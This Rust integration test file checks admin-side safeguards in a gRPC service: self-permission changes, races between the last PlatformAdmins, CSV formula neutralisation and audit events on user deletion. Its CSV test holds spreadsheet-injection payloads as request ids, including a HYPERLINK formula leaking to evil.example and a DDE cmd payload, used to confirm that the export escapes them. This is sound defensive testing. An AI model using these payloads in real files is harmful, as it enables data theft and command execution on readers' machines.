//! Issue 20, administration side: nobody changes their own permissions
//! (item 4), the platform never loses its last active PlatformAdmin, even to
//! two of them acting at the same instant (item 5), CSV exports cannot carry
//! spreadsheet formulas (10b), and deleting a user audits every membership
//! it removes (10e).

use crate::both_backends;
use crate::support::*;
use kiops_proto::v1::*;
use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;
use tonic::{Code, Status};

both_backends!(
    adding_a_member_while_deleting_the_account_is_never_internal,
    nobody_changes_their_own_permissions,
    two_admins_unflag_each_other,
    two_admins_deactivate_each_other,
    two_admins_delete_each_other,
    one_unflags_while_the_other_deactivates,
    csv_export_neutralises_formulas,
    deleting_a_user_audits_each_membership_removal,
);

const ALL: [Permission; 7] = [
    Permission::Infra,
    Permission::Service,
    Permission::Backup,
    Permission::Device,
    Permission::Database,
    Permission::Vpn,
    Permission::Audit,
];

/// Events matching the filter, read as `token` (page of up to 500).
async fn audit_events(
    s: &TestServer,
    token: &str,
    org: Option<&str>,
    action: &str,
    target: &str,
) -> (Vec<AuditEvent>, i64) {
    let r = s
        .audit()
        .await
        .list_audit_events(authed(
            ListAuditEventsRequest {
                organization_id: org.map(str::to_string),
                action: action.into(),
                target_id: target.into(),
                page_size: 500,
                ..Default::default()
            },
            token,
        ))
        .await
        .expect("list audit events")
        .into_inner();
    (r.audit_events, r.total_size)
}

async fn my_id(s: &TestServer, token: &str) -> String {
    s.users()
        .await
        .get_me(authed(GetMeRequest {}, token))
        .await
        .expect("get me")
        .into_inner()
        .user
        .expect("user")
        .user_id
}

// ---------------------------------------------------------------- item 4

/// A Manager grants themselves every category, directly and through a
/// template: both refused, nothing stored, nothing audited; once a
/// PlatformAdmin demotes them to Member they hold none of those categories.
/// SetPermissions of `who` in `org` to `perms`, as `token`.
async fn set_all(
    s: &TestServer,
    org: &str,
    who: String,
    token: String,
    perms: Vec<i32>,
) -> Result<tonic::Response<SetPermissionsResponse>, tonic::Status> {
    s.members()
        .await
        .set_permissions(authed(
            SetPermissionsRequest {
                organization_id: org.into(),
                user_id: who,
                permissions: perms,
            },
            &token,
        ))
        .await
}

/// ApplyPermissionTemplate `tid` to `who` in `org`, as `token`.
async fn apply(
    s: &TestServer,
    org: &str,
    who: String,
    token: String,
    tid: &str,
) -> Result<tonic::Response<ApplyPermissionTemplateResponse>, tonic::Status> {
    s.members()
        .await
        .apply_permission_template(authed(
            ApplyPermissionTemplateRequest {
                organization_id: org.into(),
                user_id: who,
                template_id: tid.into(),
            },
            &token,
        ))
        .await
}

async fn nobody_changes_their_own_permissions(backend: Backend) {
    let s = TestServer::start(backend).await;
    let admin = s.admin_token().await;
    let admin_id = my_id(&s, &admin).await;
    let org = s.create_org(&admin, "Self Grants", "self-grants").await;
    let (mgr_id, mgr) = s.user("mgr@selfgrant.io").await;
    let (mgr2_id, _) = s.user("mgr2@selfgrant.io").await;
    s.add_member(&admin, &org, &mgr_id, Role::Manager).await;
    s.add_member(&admin, &org, &mgr2_id, Role::Manager).await;
    s.add_member(&admin, &org, &admin_id, Role::Member).await;
    let mut m = s.members().await;
    let all: Vec<i32> = ALL.iter().map(|p| *p as i32).collect();
    let tpl = m
        .create_permission_template(authed(
            CreatePermissionTemplateRequest {
                organization_id: org.clone(),
                name: "Everything".into(),
                permissions: all.clone(),
            },
            &mgr,
        ))
        .await
        .expect("a Manager creates templates")
        .into_inner()
        .template
        .expect("template");
    let (_, events_before) = audit_events(&s, &admin, None, "", "").await;

    let set_own = |who: &str, token: &str| set_all(&s, &org, who.into(), token.into(), all.clone());
    let apply_own =
        |who: &str, token: &str| apply(&s, &org, who.into(), token.into(), &tpl.template_id);
    assert_status(
        set_own(&mgr_id, &mgr).await,
        Code::PermissionDenied,
        "SELF_PERMISSION_CHANGE",
    );
    assert_status(
        apply_own(&mgr_id, &mgr).await,
        Code::PermissionDenied,
        "SELF_PERMISSION_CHANGE",
    );
    // No exception for PlatformAdmins (here a Member of the organization).
    assert_status(
        set_own(&admin_id, &admin).await,
        Code::PermissionDenied,
        "SELF_PERMISSION_CHANGE",
    );
    assert_status(
        apply_own(&admin_id, &admin).await,
        Code::PermissionDenied,
        "SELF_PERMISSION_CHANGE",
    );

    let (_, events_after) = audit_events(&s, &admin, None, "", "").await;
    assert_eq!(
        events_after, events_before,
        "a refused change writes no event"
    );
    let (granted, _) = audit_events(&s, &admin, Some(&org), "membership.", &mgr_id).await;
    assert!(
        granted.iter().all(|e| e.action == "membership.added"),
        "{granted:?}"
    );
    for who in [&mgr_id, &admin_id] {
        let member = m
            .get_member(authed(
                GetMemberRequest {
                    organization_id: org.clone(),
                    user_id: who.clone(),
                },
                &admin,
            ))
            .await
            .expect("get member")
            .into_inner()
            .member
            .expect("member");
        assert!(member.granted_permissions.is_empty(), "{member:?}");
    }

    // Demoted, the former Manager keeps nothing they tried to grant.
    m.change_role(authed(
        ChangeRoleRequest {
            organization_id: org.clone(),
            user_id: mgr_id.clone(),
            role: Role::Member as i32,
        },
        &admin,
    ))
    .await
    .expect("demote");
    for p in ALL {
        for asker in [&mgr, &admin] {
            let allowed = m
                .check_permission(authed(
                    CheckPermissionRequest {
                        organization_id: org.clone(),
                        user_id: mgr_id.clone(),
                        permission: p as i32,
                    },
                    asker,
                ))
                .await
                .expect("check permission")
                .into_inner()
                .allowed;
            assert!(!allowed, "{p:?} survived the demotion");
        }
    }
    // The demoted member cannot grant themselves anything either.
    assert_status(
        set_own(&mgr_id, &mgr).await,
        Code::PermissionDenied,
        "MANAGER_REQUIRED",
    );
}

// ---------------------------------------------------------------- item 5

struct Admin {
    id: String,
    email: String,
    token: String,
}

#[derive(Clone, Copy, Debug)]
enum Removal {
    Unflag,
    Deactivate,
    Delete,
}

async fn remove(s: &TestServer, how: Removal, target: &str, token: &str) -> Result<(), Status> {
    let mut u = s.users().await;
    let user_id = target.to_string();
    match how {
        Removal::Unflag => u
            .set_platform_admin(authed(
                SetPlatformAdminRequest {
                    user_id,
                    platform_admin: false,
                },
                token,
            ))
            .await
            .map(drop),
        Removal::Deactivate => u
            .deactivate_user(authed(DeactivateUserRequest { user_id }, token))
            .await
            .map(drop),
        Removal::Delete => u
            .delete_user(authed(DeleteUserRequest { user_id }, token))
            .await
            .map(drop),
    }
}

/// A new PlatformAdmin made by `by`, logged in.
async fn new_admin(s: &TestServer, by: &str, email: &str) -> Admin {
    let id = s
        .users()
        .await
        .create_user(authed(
            CreateUserRequest {
                email: email.into(),
                name: "Admin".into(),
                password: PASSWORD.into(),
                platform_admin: true,
            },
            by,
        ))
        .await
        .expect("create admin")
        .into_inner()
        .user
        .expect("user")
        .user_id;
    let token = s.login(email, PASSWORD).await.expect("login").access_token;
    Admin {
        id,
        email: email.into(),
        token,
    }
}

/// Ids of the active PlatformAdmins, read as `token`.
async fn active_admins(s: &TestServer, token: &str) -> BTreeSet<String> {
    s.users()
        .await
        .list_users(authed(
            ListUsersRequest {
                filter: "platform_admin=true AND status=ACTIVE".into(),
                page_size: 100,
                ..Default::default()
            },
            token,
        ))
        .await
        .expect("list admins")
        .into_inner()
        .users
        .into_iter()
        .map(|u| u.user_id)
        .collect()
}

/// Exactly two active PlatformAdmins: the bootstrap admin makes `a`, who
/// takes the bootstrap admin's flag away and makes `b`.
async fn exactly_two(s: &TestServer) -> (Admin, Admin) {
    let boot = s.admin_token().await;
    let boot_id = my_id(s, &boot).await;
    let a = new_admin(s, &boot, "pa-a@race.io").await;
    remove(s, Removal::Unflag, &boot_id, &a.token)
        .await
        .expect("unflag the bootstrap admin");
    let b = new_admin(s, &a.token, "pa-b@race.io").await;
    assert_eq!(
        active_admins(s, &a.token).await,
        BTreeSet::from([a.id.clone(), b.id.clone()])
    );
    (a, b)
}

/// 20 rounds: the two active PlatformAdmins remove each other at the same
/// instant (`a` with `how_a`, `b` with `how_b`). Exactly one may win; the
/// survivor is then the only active PlatformAdmin and makes a new second
/// one for the next round. Finally the survivor cannot delete themselves.
async fn race(backend: Backend, how_a: Removal, how_b: Removal) {
    let s = Arc::new(TestServer::start(backend).await);
    let (mut a, mut b) = exactly_two(&s).await;
    let mut guarded = 0;
    for round in 0..20 {
        let barrier = Arc::new(tokio::sync::Barrier::new(2));
        let go = |how, target: String, token: String| {
            let (s, barrier) = (s.clone(), barrier.clone());
            tokio::spawn(async move {
                let mut u = s.users().await;
                // Warm the connection, then fire together.
                let _ = u.get_me(authed(GetMeRequest {}, &token)).await;
                barrier.wait().await;
                remove(&s, how, &target, &token).await
            })
        };
        let ta = go(how_a, b.id.clone(), a.token.clone());
        let tb = go(how_b, a.id.clone(), b.token.clone());
        let (ra, rb) = (ta.await.expect("task a"), tb.await.expect("task b"));
        let (winner, lost) = match (ra, rb) {
            (Ok(()), Err(e)) => (a, e),
            (Err(e), Ok(())) => (b, e),
            (ra, rb) => panic!(
                "round {round}: exactly one of two PlatformAdmins removing each other \
                 may succeed: a {ra:?}, b {rb:?}"
            ),
        };
        match (lost.code(), reason(&lost).as_str()) {
            (Code::FailedPrecondition, "LAST_PLATFORM_ADMIN") => guarded += 1,
            // Arrived after the winner's commit: no longer a PlatformAdmin
            // (unflagged: SetPlatformAdmin says so with its own reason) or
            // no longer signed in (deactivated, deleted).
            (
                Code::PermissionDenied,
                "PLATFORM_ADMIN_REQUIRED" | "PROMOTION_REQUIRES_PLATFORM_ADMIN",
            )
            | (Code::Unauthenticated, _) => {}
            _ => panic!("round {round}: loser got {lost:?}"),
        }
        assert_eq!(
            active_admins(&s, &winner.token).await,
            BTreeSet::from([winner.id.clone()]),
            "round {round}: the winner is the one active PlatformAdmin left"
        );
        b = new_admin(&s, &winner.token, &format!("pa-{round}@race.io")).await;
        a = winner;
    }
    eprintln!("{how_a:?}/{how_b:?}: {guarded} of 20 losers refused LAST_PLATFORM_ADMIN");
    assert!(
        guarded > 0,
        "the two requests never overlapped: the guard was not exercised"
    );
    // The last one cannot leave by deleting their own account either.
    remove(&s, how_a, &b.id, &a.token)
        .await
        .expect("down to one");
    assert_status(
        s.users()
            .await
            .delete_me(authed(
                DeleteMeRequest {
                    current_password: PASSWORD.into(),
                },
                &a.token,
            ))
            .await,
        Code::FailedPrecondition,
        "LAST_PLATFORM_ADMIN",
    );
    assert_eq!(
        active_admins(&s, &a.token).await,
        BTreeSet::from([a.id.clone()])
    );
    assert!(s.login(&a.email, PASSWORD).await.is_ok());
}

async fn two_admins_unflag_each_other(backend: Backend) {
    race(backend, Removal::Unflag, Removal::Unflag).await;
}

async fn two_admins_deactivate_each_other(backend: Backend) {
    race(backend, Removal::Deactivate, Removal::Deactivate).await;
}

async fn two_admins_delete_each_other(backend: Backend) {
    race(backend, Removal::Delete, Removal::Delete).await;
}

async fn one_unflags_while_the_other_deactivates(backend: Backend) {
    race(backend, Removal::Unflag, Removal::Deactivate).await;
}

// ---------------------------------------------------------------- item 10b

/// Minimal RFC 4180 reader: rows of cells, quotes undone.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        !quoted && cell.is_empty() && row.is_empty(),
        "CSV ends a row"
    );
    rows
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Accounts whose emails, and requests whose ids, start with formula
/// characters leave audit events; the CSV export must show every such cell
/// as text (`'` first) and every other cell exactly as the JSON export does.
async fn csv_export_neutralises_formulas(backend: Backend) {
    let s = TestServer::start(backend).await;
    let admin = s.admin_token().await;
    let request_ids = [
        r#"=HYPERLINK("http://evil.example/?leak","click")"#,
        "+cmd|'/C_calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "plain-request-id",
    ];
    let emails = [
        "=eq@csv.io",
        "+plus@csv.io",
        "-minus@csv.io",
        "plain@csv.io",
    ];
    for (i, email) in emails.iter().enumerate() {
        let (_, t) = s.user(email).await;
        for rid in request_ids {
            let mut req = authed(
                UpdateMeRequest {
                    name: format!("User {i}"),
                    update_mask: Some(prost_types::FieldMask {
                        paths: vec!["name".into()],
                    }),
                    ..Default::default()
                },
                &t,
            );
            req.metadata_mut()
                .insert("x-request-id", rid.parse().expect("request id"));
            s.users().await.update_me(req).await.expect("update me");
        }
    }

    let export = |format: ExportFormat| {
        let (s, admin) = (&s, admin.clone());
        async move {
            let mut st = s
                .audit()
                .await
                .export_audit_events(authed(
                    ExportAuditEventsRequest {
                        format: format as i32,
                        ..Default::default()
                    },
                    &admin,
                ))
                .await
                .expect("export")
                .into_inner();
            let mut out = Vec::new();
            while let Some(c) = st.message().await.expect("chunk") {
                out.extend(c.chunk);
            }
            String::from_utf8(out).expect("utf-8")
        }
    };
    let csv = parse_csv(&export(ExportFormat::Csv).await);
    let jsonl: Vec<serde_json::Value> = export(ExportFormat::JsonLines)
        .await
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    let header = &csv[0];
    assert_eq!(header[0], "event_id");
    let rows = &csv[1..];
    assert_eq!(rows.len(), jsonl.len(), "one CSV row per event");
    let mut neutralised = 0;
    for (row, line) in rows.iter().zip(&jsonl) {
        assert_eq!(row.len(), header.len(), "{row:?}");
        for (col, cell) in header.iter().zip(row) {
            assert!(!is_formula(cell), "{col} is a formula: {cell:?}");
            let raw = match &line[col.as_str()] {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(v) => v.clone(),
                v => v.to_string(),
            };
            if col == "details_json" {
                let parsed: serde_json::Value = serde_json::from_str(cell).expect("details");
                assert_eq!(parsed, line["details"]);
            } else if is_formula(&raw) {
                assert_eq!(*cell, format!("'{raw}"), "{col}");
                neutralised += 1;
            } else {
                assert_eq!(*cell, raw, "{col} unchanged");
            }
        }
    }
    // 16 UpdateMe events with a formula request id, 15 by a formula email.
    assert!(neutralised >= 16 + 15, "{neutralised} cells neutralised");
    let formula_rows = rows
        .iter()
        .filter(|r| r[4] == "'=eq@csv.io" && r[10] == format!("'{}", request_ids[0]))
        .count();
    assert_eq!(
        formula_rows, 1,
        "the =HYPERLINK row, both cells neutralised"
    );
}

// ---------------------------------------------------------------- item 10e

/// A user in three organizations is deleted: each organization's trail
/// gets one `membership.removed` event (caused by the deletion, same
/// request), beside the one `user.deleted`; each membership is revoked as a
/// removal would be. DeleteMe does the same with the user as actor.
async fn deleting_a_user_audits_each_membership_removal(backend: Backend) {
    let s = TestServer::start(backend).await;
    let admin = s.admin_token().await;
    let mut watch = s
        .auth()
        .await
        .watch_revocations(authed(WatchRevocationsRequest::default(), &admin))
        .await
        .expect("watch")
        .into_inner();
    let (victim, _) = s.user("victim@del.io").await;
    let (selfdel, selfdel_t) = s.user("selfdel@del.io").await;
    let mut orgs = Vec::new();
    for (i, role) in [Role::Member, Role::Member, Role::Manager]
        .into_iter()
        .enumerate()
    {
        let org = s.create_org(&admin, "Deletion", &format!("del-{i}")).await;
        let (mgr_id, mgr) = s.user(&format!("mgr{i}@del.io")).await;
        s.add_member(&admin, &org, &mgr_id, Role::Manager).await;
        s.add_member(&admin, &org, &victim, role).await;
        if i < 2 {
            s.add_member(&admin, &org, &selfdel, Role::Member).await;
        }
        orgs.push((org, mgr, role));
    }
    s.members()
        .await
        .set_permissions(authed(
            SetPermissionsRequest {
                organization_id: orgs[0].0.clone(),
                user_id: victim.clone(),
                permissions: vec![Permission::Vpn as i32],
            },
            &orgs[0].1,
        ))
        .await
        .expect("grant");

    let mut req = authed(
        DeleteUserRequest {
            user_id: victim.clone(),
        },
        &admin,
    );
    req.metadata_mut()
        .insert("x-request-id", "delete-victim-1".parse().expect("id"));
    s.users().await.delete_user(req).await.expect("delete user");

    for (org, mgr, role) in &orgs {
        let (seen, _) = audit_events(&s, mgr, Some(org), "membership.removed", &victim).await;
        assert_eq!(seen.len(), 1, "{org}: {seen:?}");
        let e = &seen[0];
        assert_eq!(e.organization_id, *org);
        assert_eq!(e.actor_email, ADMIN_EMAIL);
        assert_eq!(e.request_id, "delete-victim-1");
        let d: serde_json::Value = serde_json::from_str(&e.details_json).expect("details");
        assert_eq!(d["cause"], "account_deleted", "{d}");
        let want_role = if *role == Role::Manager {
            "manager"
        } else {
            "member"
        };
        assert_eq!(d["before"]["role"], want_role, "{d}");
    }
    let (all, _) = audit_events(&s, &admin, None, "membership.removed", &victim).await;
    assert_eq!(all.len(), 3, "exactly one removal per organization");
    let (deleted, _) = audit_events(&s, &admin, None, "user.deleted", &victim).await;
    assert_eq!(deleted.len(), 1);
    assert_eq!(deleted[0].request_id, "delete-victim-1");

    // Revocations: one per membership, as RemoveMember writes, and the
    // account-wide one.
    let mut revoked = BTreeSet::new();
    while !revoked.contains(&("deleted".to_string(), String::new())) {
        let ev = tokio::time::timeout(Duration::from_secs(10), watch.message())
            .await
            .expect("revocation within 10 s")
            .expect("stream")
            .expect("open")
            .event
            .expect("event");
        if ev.user_id == victim {
            revoked.insert((ev.reason, ev.organization_id));
        }
    }
    let want: BTreeSet<_> = orgs
        .iter()
        .map(|(o, _, _)| ("membership_removed".to_string(), o.clone()))
        .chain([("deleted".to_string(), String::new())])
        .collect();
    assert_eq!(revoked, want);

    // DeleteMe: the same, with the user as actor.
    s.users()
        .await
        .delete_me(authed(
            DeleteMeRequest {
                current_password: PASSWORD.into(),
            },
            &selfdel_t,
        ))
        .await
        .expect("delete me");
    let (mine, _) = audit_events(&s, &admin, None, "membership.removed", &selfdel).await;
    let mine_orgs: BTreeSet<_> = mine.iter().map(|e| e.organization_id.clone()).collect();
    assert_eq!(mine.len(), 2, "{mine:?}");
    assert_eq!(
        mine_orgs,
        BTreeSet::from([orgs[0].0.clone(), orgs[1].0.clone()])
    );
    assert!(mine.iter().all(|e| e.actor_email == "selfdel@del.io"));
}

/// AddMember of a user that is being deleted at the same instant: either
/// order is fine, but never INTERNAL (the insert's foreign key fails when
/// the deletion commits first).
async fn adding_a_member_while_deleting_the_account_is_never_internal(backend: Backend) {
    let s = Arc::new(TestServer::start(backend).await);
    let admin = s.admin_token().await;
    let org = s.create_org(&admin, "Org", "org").await;
    let mut outcomes = std::collections::BTreeMap::new();
    for round in 0..20 {
        let user = s
            .create_user(&format!("gone-{round}@example.com"), "Gone", PASSWORD)
            .await;
        let barrier = Arc::new(tokio::sync::Barrier::new(2));
        let add = {
            let (s, barrier, admin, org, user) = (
                s.clone(),
                barrier.clone(),
                admin.clone(),
                org.clone(),
                user.clone(),
            );
            tokio::spawn(async move {
                let mut m = s.members().await;
                barrier.wait().await;
                m.add_member(authed(
                    AddMemberRequest {
                        organization_id: org,
                        user_id: user,
                        role: Role::Member as i32,
                    },
                    &admin,
                ))
                .await
                .map(drop)
            })
        };
        let delete = {
            let (s, barrier, admin, user) =
                (s.clone(), barrier.clone(), admin.clone(), user.clone());
            tokio::spawn(async move {
                let mut u = s.users().await;
                barrier.wait().await;
                u.delete_user(authed(DeleteUserRequest { user_id: user }, &admin))
                    .await
                    .map(drop)
            })
        };
        let (added, deleted) = (add.await.expect("add"), delete.await.expect("delete"));
        deleted.unwrap_or_else(|e| panic!("round {round}: delete refused: {e:?}"));
        let label = match added {
            Ok(()) => "added first".to_string(),
            Err(e) => {
                assert!(
                    matches!(e.code(), Code::NotFound | Code::Aborted),
                    "round {round}: AddMember racing a deletion: {e:?}"
                );
                format!("{:?}", e.code())
            }
        };
        *outcomes.entry(label).or_insert(0) += 1;
    }
    println!("AddMember vs DeleteUser ({backend:?}): {outcomes:?}");
}
